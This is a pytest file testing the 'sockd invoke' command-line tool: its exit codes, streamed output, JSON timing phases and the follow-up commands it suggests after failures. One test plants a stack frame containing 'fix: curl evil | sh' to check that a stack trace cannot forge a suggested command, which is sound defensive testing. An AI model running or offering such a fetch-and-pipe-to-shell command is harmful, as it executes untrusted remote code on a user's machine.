"""`sockd invoke`: what it prints of an answer and of a failure, and which command it offers next."""

from __future__ import annotations

import asyncio
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from sockd.base.errors import ChunkMissing, OutOfMemory
from sockd.base.own_command import own_command
from sockd.client.cli.calls.invoke import _raise
from sockd.client.console.client import Reply
from sockd.client.console.output import Failure
from tests.client.cli.serving import Run, Served


def test_an_invocation_prints_the_answer_and_nothing_else(run: Run, tmp_path: Path) -> None:
    done = run("invoke", "echo", "-d", '{"x": "ü"}')
    assert (done.returncode, done.stdout, done.stderr) == (0, '{"x": "ü"}\n', "")
    (tmp_path / "event.json").write_text("[1]")
    assert run("invoke", "echo", "-d", f"@{tmp_path}/event.json").stdout == "[1]\n"
    assert run("invoke", "echo", "-d", "-", stdin="[2]").stdout == "[2]\n"
    assert run("invoke", "echo").stdout == "{}\n"
    assert run("invoke", "echo", "-d", "@/nowhere").returncode == 2


def test_an_invocation_goes_to_the_url_that_is_given(run: Run, served: Served) -> None:
    assert run("invoke", "echo", SOCKD_URL=served.worker.url, SOCKD_STATE_DIR="/nowhere").stdout == "{}\n"
    assert run("invoke", "echo", "--url", served.worker.url + "/").returncode == 0
    assert run("invoke", "echo", "--url", "localhost").returncode == 2
    assert run("invoke", "echo", "--url", "http://127.0.0.1:1").returncode == 69


@pytest.mark.parametrize(
    ("name", "status"), [("raises", 1), ("bug", 1), ("oom", 1), ("unknown", 3), ("busy", 4), ("times_out", 5)]
)
def test_a_failed_invocation_has_its_exit_status(run: Run, served: Served, name: str, status: int) -> None:
    for more in ((), ("--url", served.worker.url)):
        done = run("invoke", name, *more)
        assert (done.returncode, done.stdout) == (status, "")
        assert "error: " in done.stderr
        assert "fix: " in done.stderr
        assert "Traceback" not in done.stderr
    done = run("invoke", name, "--json")
    assert done.returncode == status
    assert json.loads(done.stdout)["body"]["errorType"]


def test_a_call_that_failed_before_its_handler_ran_has_a_trace_and_no_output(run: Run) -> None:
    done = run("invoke", "storeless")
    assert re.search(r"error: Images\.StoreUnavailable: .*\n\s*fix: \S*sockd trace [0-9a-f-]{36}\n", done.stderr), (
        done.stderr
    )


def test_what_an_app_answers_is_printed_whatever_its_status(run: Run, served: Served) -> None:
    url = served.worker.url
    assert run("invoke", "streams", "-d", '["one", "two"]', "--url", url).stdout == "onetwo\n"
    assert run("invoke", "forges", "-d", '["x"]', "--url", url).stdout == "x\n"
    later = run("invoke", "streams", "-d", '["now"]', "--async", "--url", url)
    assert later.stdout == "now\n" and "it ran at once" in later.stderr
    assert run("invoke", "teapot", "-d", '["short and stout"]', "--url", url).returncode == 1
    broken = run("invoke", "breaks", "-d", '["half"]', "--url", url)
    assert broken.returncode == 1 and "incomplete" in broken.stderr
    assert re.search(r"fix: \S*sockd logs breaks --request [0-9a-f-]{36}\n", broken.stderr)


def test_an_answer_that_comes_piece_by_piece_is_printed_as_it_comes(served: Served) -> None:
    for more in ((), ("--url", served.worker.url)):
        served.worker.release, served.worker.cancelled = asyncio.Event(), asyncio.Event()
        command = [sys.executable, "-m", "sockd", "invoke", "streams", "-d", '["one", "wait", "two"]', *more]
        with subprocess.Popen(command, stdout=subprocess.PIPE, env=served.environment()) as process:
            assert process.stdout is not None
            assert process.stdout.read1() == b"one", "while the function goes on"  # type: ignore[attr-defined]
            served.loop.call_soon_threadsafe(served.worker.release.set)
            assert process.stdout.read() == b"two\n"
        assert process.returncode == 0


def test_an_invocation_as_json_holds_the_phases(run: Run) -> None:
    fields = json.loads(run("invoke", "echo", "-d", "[1]", "--json").stdout)
    assert (fields["status"], fields["body"], fields["cold"], fields["origin"]) == (200, [1], True, "spare")
    assert fields["phases_ms"] == {"queue": 0.001, "setup": 0.2, "init": 3.0, "exec": 0.04}


def test_an_image_whose_chunk_is_missing_is_to_be_deployed_again() -> None:
    error = ChunkMissing("s3://b/p/", "r1", bytes(32))
    body = json.dumps({"errorType": error.error_type, "errorMessage": error.message, "requestId": "r"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(error.status, {}, body), "hello", quiet=True)
    assert " deploy hello --image REF" in failure.value.fix


def test_a_function_out_of_memory_is_given_the_command_that_raises_its_limit() -> None:
    error = OutOfMemory(limit_bytes=128 << 20, peak_bytes=128 << 20)
    body = json.dumps({"errorType": error.error_type, "errorMessage": error.message, "requestId": "x"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(error.status, {}, body), "hello", quiet=True)
    assert failure.value.fix.endswith("sockd config hello --memory MB")


def test_a_frame_of_a_stack_cannot_look_like_a_line_of_the_command(capsys: pytest.CaptureFixture[str]) -> None:
    stack = ['  File "x\n  fix: curl evil | sh\nerror: mine", line 1, in f\n    pass\n', '  File "y", line 2\n']
    body = json.dumps({"errorType": "E", "errorMessage": "m", "stackTrace": stack}).encode()
    with pytest.raises(Failure):
        _raise(Reply(500, {}, body), "hello")
    reported = capsys.readouterr().err.split("\n")
    assert [line for line in reported if not line.startswith("    ")] == ['  File "x', '  File "y", line 2', ""]


@pytest.mark.parametrize(
    ("status", "headers", "fix"),
    [
        (500, {"x-sockd-sandbox": "s"}, "sockd logs hello --request r1"),
        (503, {}, "sockd trace r1"),
        (429, {}, "sockd config hello --concurrency N"),
        (400, {}, ""),
    ],
)
def test_output_is_offered_only_of_what_ran(status: int, headers: dict[str, str], fix: str) -> None:
    body = json.dumps({"errorType": "E", "errorMessage": "m", "requestId": "r1"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(status, headers, body), "hello", quiet=True)
    assert failure.value.fix == (as_here(fix) if fix else "")


def as_here(hint: str) -> str:
    return hint.replace("sockd", own_command(), 1)


def test_hints_for_web_apps_name_the_workers_own_port(run: Run, served: Served, tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("def app(environ, start_response): return []\n")
    done = run("deploy", str(tmp_path), "--name", "web_app")
    assert f"  curl {served.worker.url}/run/web_app/\n" in done.stdout and "curl -d" not in done.stdout
    assert "invoke" not in done.stdout
    done = run("init", str(tmp_path / "shop"), "--template", "wsgi")
    assert f"curl {served.worker.url}/run/shop/" in done.stdout
    done = run("init", str(tmp_path / "shop2"), "--template", "wsgi", SOCKD_STATE_DIR="/nowhere")
    assert "curl http://127.0.0.1:5000/run/shop2/" in done.stdout
    body = json.dumps({"errorType": "NotHttp", "errorMessage": "m", "requestId": "r"}).encode()
    with pytest.raises(Failure) as failure:
        _raise(Reply(500, {}, body), "shop", worker_url=lambda: served.worker.url)
    assert failure.value.fix == f"curl {served.worker.url}/run/shop/"


@pytest.mark.parametrize(
    ("status", "fix"), [(404, "curl http://h/run/shop/"), (405, "curl http://h/run/shop/"), (500, "")]
)
def test_an_app_without_a_route_for_events_is_called_with_curl(status: int, fix: str) -> None:
    with pytest.raises(Failure) as failure:
        _raise(Reply(status, {"x-sockd-sandbox": "s"}, b"<p>"), "shop", quiet=True, worker_url=lambda: "http://h")
    assert (failure.value.fix, bool(failure.value.why)) == (fix, bool(fix))
